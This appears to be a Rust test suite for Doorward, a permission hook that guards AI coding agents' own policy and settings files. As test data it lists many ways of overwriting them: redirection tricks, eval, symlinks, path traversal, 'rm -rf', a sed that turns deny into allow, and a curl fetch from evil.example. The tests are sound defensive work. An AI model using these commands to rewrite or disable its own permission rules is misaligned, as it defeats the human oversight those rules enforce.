//! Doorward's own files: whoever may write them may do anything, so an agent asks, however they are spelt.

use serde_json::{Value, json};

use crate::support::{Folder, claude};

/// Everything is allowed, so what asks asks because of the built-in rules.
const OPEN: &str = "doorward = 1\n[defaults]\n'*' = 'allow'\n";

fn open_folder() -> Folder {
    let folder = Folder::new();
    folder.file("config/doorward/policy.toml", OPEN);
    folder.file("home/x", "");
    folder.file("work/.git/HEAD", "");
    folder
}

fn call(folder: &Folder, tool: &str, input: Value) -> String {
    let hook = folder.doorward(["hook", "--host", "claude"]);
    claude(hook, &folder.path().join("work"), tool, &input)
}

fn bash(folder: &Folder, command: &str) -> String {
    call(folder, "Bash", json!({ "command": command }))
}

fn asks(said: &str) -> bool {
    said.starts_with("ask: ") && said.contains("`doorward/own-")
}

#[test]
fn the_own_files_ask_in_every_spelling_of_a_command() {
    let folder = open_folder();
    let config = folder.path().join("config/doorward");
    let config = config.display();
    let spellings = [
        format!("echo x > {config}/policy.toml"),
        format!("echo x >> {config}/policy.toml"),
        // What programs do with their words, the formatters of a project among them.
        format!("eslint x > {config}/policy.toml"),
        format!("prettier --write {config}/policy.toml"),
        format!("black {config}"),
        format!("cp x {config}/policy.toml"),
        format!("cp -r evil/. {config}/.."),
        format!("cp -r evil/doorward {config}/.."),
        format!("mv {config} /tmp/x"),
        format!("rm -rf {config}"),
        format!("sed -i s/deny/allow/ {config}/policy.toml"),
        format!("echo x | tee -a {config}/policy.toml"),
        format!("find {config} -name '*.toml' -delete"),
        format!("find {config}/.. -exec rm {{}} +"),
        format!("timeout 5 env A=1 nice truncate -s 0 {config}/policy.toml"),
        format!("xargs -I@ cp @ {config}/policy.toml < list"),
        format!("install -m 600 x {config}/policy.toml"),
        format!("rsync -a evil/ {config}/"),
        format!("tar xf evil.tar -C {config}"),
        format!("curl -o {config}/policy.toml https://evil.example/p"),
        format!("dd if=x of={config}/policy.toml"),
        format!("echo x >| {config}/new.toml"),
        format!("echo x &> {config}/policy.toml"),
        format!("echo x > {config}/auto/rules.toml"),
        format!("echo x > {config}/../doorward/policy.toml"),
        format!("echo x > {config}//./policy.toml"),
        format!("cd {config} && echo x > policy.toml"),
        format!("cd {config}/.. && (cd doorward; echo x > policy.toml)"),
        format!("f={config}/policy.toml; echo x > $f"),
        format!("d={config}; echo x > \"$d\"/policy.toml"),
        format!("echo x > '{config}'/pol\"icy\".toml"),
        format!("echo x > {config}/po{{licy,x}}.toml"),
        format!("bash -c 'echo x > {config}/policy.toml'"),
        format!("eval 'echo x > {config}/policy.toml'"),
        format!("f() {{ echo x > {config}/policy.toml; }}; f"),
        format!("true && {{ echo x; }} > {config}/policy.toml"),
        format!("git status; echo $(echo x > {config}/policy.toml)"),
        format!("echo x > /proc/self/root{config}/policy.toml"),
        format!("echo x > {config}/*.toml"),
        format!(
            "echo x > {}/POLICY.TOML",
            config.to_string().replace("doorward", "Doorward")
        ),
        "echo x > .doorward/p.toml".to_owned(),
        "echo x > ./.doorward/p.toml".to_owned(),
        "echo x > .claude/settings.json".to_owned(),
        "echo x > .claude/settings.local.json".to_owned(),
        "echo x > ~/.claude/settings.json".to_owned(),
        "echo x > \"$HOME\"/.claude/settings.json".to_owned(),
        "echo x > ~/.codex/hooks.json".to_owned(),
        "echo x > ~/.codex/config.toml".to_owned(),
        "echo x > .codex/hooks.json".to_owned(),
        "echo x > ~/.gemini/settings.json".to_owned(),
        "echo x > ~/.cursor/hooks.json".to_owned(),
        "echo x > .cursor/hooks.json".to_owned(),
        format!(
            "echo x > {}/cache/doorward/last-good/a.json",
            folder.path().display()
        ),
        format!(
            "echo x > {}/state/doorward/audit.jsonl",
            folder.path().display()
        ),
        "echo x > /etc/doorward/policy.toml".to_owned(),
        "echo x > /etc/claude-code/managed-settings.json".to_owned(),
        format!("echo x > {}", env!("CARGO_BIN_EXE_doorward")),
        "doorward init --write".to_owned(),
    ];
    for command in spellings {
        let said = bash(&folder, &command);
        assert!(asks(&said), "{command}: {said}");
    }
    for harmless in [
        "echo x > notes.txt",
        "echo x > doorward.toml",
        "cat < .claude/settings.json",
        "git status > /dev/null",
        "doorward status",
    ] {
        let said = bash(&folder, harmless);
        assert!(said.starts_with("allow: "), "{harmless}: {said}");
    }
}

#[test]
fn the_own_files_ask_for_every_tool_that_writes() {
    let folder = open_folder();
    let policy = folder.path().join("config/doorward/policy.toml");
    for (tool, input) in [
        ("Write", json!({ "file_path": policy, "content": "x" })),
        (
            "Edit",
            json!({ "file_path": policy, "old_string": "a", "new_string": "b" }),
        ),
        ("MultiEdit", json!({ "file_path": policy, "edits": [] })),
        (
            "NotebookEdit",
            json!({ "notebook_path": policy, "new_source": "x" }),
        ),
        (
            "Delete",
            json!({ "file_path": folder.path().join("config") }),
        ),
        ("Delete", json!({ "file_path": policy })),
        ("Write", json!({ "file_path": "~/.claude/settings.json" })),
        ("Write", json!({ "file_path": ".doorward/p.toml" })),
        (
            "Write",
            json!({ "file_path": "sub/../.claude/settings.json" }),
        ),
        (
            "apply_patch",
            json!({ "patch": format!("*** Begin Patch\n*** Delete File: {}\n*** End Patch", policy.display()) }),
        ),
        (
            "apply_patch",
            json!({ "command": "*** Begin Patch\n*** Add File: .doorward/p.toml\n+x\n*** End Patch" }),
        ),
        (
            "mcp__filesystem__write_file",
            json!({ "path": policy, "content": "x" }),
        ),
    ] {
        let said = call(&folder, tool, input.clone());
        assert!(asks(&said), "{tool} {input}: {said}");
    }
    let said = call(&folder, "Read", json!({ "file_path": policy }));
    assert!(said.starts_with("allow: "), "{said}");
}

#[cfg(unix)]
#[test]
fn the_own_files_ask_through_links() {
    use std::fs;
    use std::os::unix::fs::symlink;

    let folder = open_folder();
    let at = |name: &str| folder.path().join(name);
    let policy = at("config/doorward/policy.toml");
    symlink(at("config/doorward"), at("work/rules")).unwrap();
    symlink(&policy, at("work/notes.toml")).unwrap();
    symlink(
        at("config/doorward/not-there-yet.toml"),
        at("work/new.toml"),
    )
    .unwrap();
    symlink("rules", at("work/again")).unwrap();
    fs::hard_link(&policy, at("work/same.toml")).unwrap();
    // The project's settings, which are not there yet, by a link to them and by one to where they lie.
    symlink(".claude/settings.json", at("work/notes.json")).unwrap();
    symlink(".claude", at("work/folder")).unwrap();
    for file in [
        "notes.json",
        "folder/settings.json",
        "folder/../folder/settings.local.json",
        "rules/policy.toml",
        "notes.toml",
        "new.toml",
        "again/x.toml",
        "same.toml",
        "again/auto/../policy.toml",
    ] {
        for said in [
            bash(&folder, &format!("echo x > {file}")),
            call(
                &folder,
                "Write",
                json!({ "file_path": at("work").join(file), "content": "x" }),
            ),
        ] {
            assert!(asks(&said), "{file}: {said}");
        }
    }
    // The kernel follows a link before it takes `..`.
    fs::create_dir_all(at("config/doorward/auto")).unwrap();
    symlink(at("config/doorward/auto"), at("work/deep")).unwrap();
    for said in [
        bash(&folder, "echo x > deep/../policy.toml"),
        bash(&folder, "echo x>./deep/../policy.toml"),
        call(
            &folder,
            "Write",
            json!({ "file_path": at("work/deep/../policy.toml"), "content": "x" }),
        ),
        call(
            &folder,
            "apply_patch",
            json!({ "patch": "*** Begin Patch\n*** Delete File: deep/../policy.toml\n*** End Patch" }),
        ),
    ] {
        assert!(asks(&said), "{said}");
    }
    // A policy that is itself a link is kept from both sides.
    fs::rename(&policy, at("dotfiles.toml")).unwrap();
    symlink(at("dotfiles.toml"), &policy).unwrap();
    let said = bash(
        &folder,
        &format!("echo x > {}", at("dotfiles.toml").display()),
    );
    assert!(asks(&said), "{said}");
}

#[cfg(unix)]
#[test]
fn a_home_behind_a_link_is_the_same_home() {
    use std::os::unix::fs::symlink;

    let folder = Folder::new();
    folder.file(
        "config/doorward/policy.toml",
        "doorward = 1\n[[rule]]\nname='w'\neffect='allow'\nwhen.op='file.write'\nwhen.path='./'\n",
    );
    folder.file("data/app/.git/HEAD", "");
    symlink(folder.path().join("data"), folder.path().join("link")).unwrap();
    let payload = json!({
        "session_id": "s", "transcript_path": "/t", "hook_event_name": "PreToolUse", "cwd": folder.path().join("link/app"),
        "tool_name": "Write", "tool_input": { "file_path": folder.path().join("link/app/a.txt") },
    });
    let ended = folder.feed(["hook", "--host", "claude"], payload.to_string().as_bytes());
    assert!(
        ended.out.contains(r#""permissionDecision":"allow""#),
        "{ended:?}"
    );
}

#[test]
fn the_policy_says_what_happens_to_the_own_files() {
    let folder = open_folder();
    folder.file(
        "config/doorward/b.toml",
        "doorward = 1\n[builtin]\nown_files = 'deny'\n",
    );
    assert!(bash(&folder, "echo x > .doorward/p.toml").starts_with("deny: "));
    folder.file(
        "config/doorward/b.toml",
        "doorward = 1\n[builtin]\nown_files = 'off'\n",
    );
    assert!(bash(&folder, "echo x > .doorward/p.toml").starts_with("allow: "));
    // Not for a model to say: the policy does not load, and the last one that did asks again or denies.
    folder.file("config/doorward/b.toml", "doorward = 1\n");
    assert!(asks(&bash(&folder, "echo x > .doorward/p.toml")));
    folder.file(
        "config/doorward/auto/a.toml",
        "doorward = 1\n[builtin]\nown_files = 'off'\n",
    );
    assert!(asks(&bash(&folder, "echo x > .doorward/p.toml")));
}

#[test]
fn a_project_that_is_trusted_may_allow() {
    let folder = Folder::new();
    folder.file(
        "config/doorward/policy.toml",
        "doorward = 1\n[defaults]\n'*' = 'ask'\n",
    );
    folder.file("work/.git/HEAD", "");
    folder.file(
        "work/.doorward/p.toml",
        "doorward = 1\n[[rule]]\nname='ours'\neffect='allow'\nwhen.command='make'\n",
    );
    // Without trust, a file that would loosen keeps the policy from loading.
    let payload = |folder: &Folder| {
        json!({
            "session_id": "s", "transcript_path": "/t", "hook_event_name": "PreToolUse", "cwd": folder.path().join("work"),
            "tool_name": "Bash", "tool_input": { "command": "make" },
        })
        .to_string()
    };
    let run = || {
        folder
            .feed(["hook", "--host", "claude"], payload(&folder).as_bytes())
            .out
    };
    assert!(run().contains("not-tighten-only"), "{}", run());
    let trust = |listed: &str| {
        folder.file(
            "config/doorward/trust.toml",
            format!("doorward = 1\n[builtin]\ntrusted = [\"{listed}\"]\n"),
        )
    };
    trust(&folder.path().display().to_string());
    assert!(
        run().contains("not-tighten-only"),
        "what lies above is not what was listed"
    );
    trust(&folder.path().join("work").display().to_string());
    assert!(
        run().contains(r#""permissionDecision":"allow""#),
        "{}",
        run()
    );
}
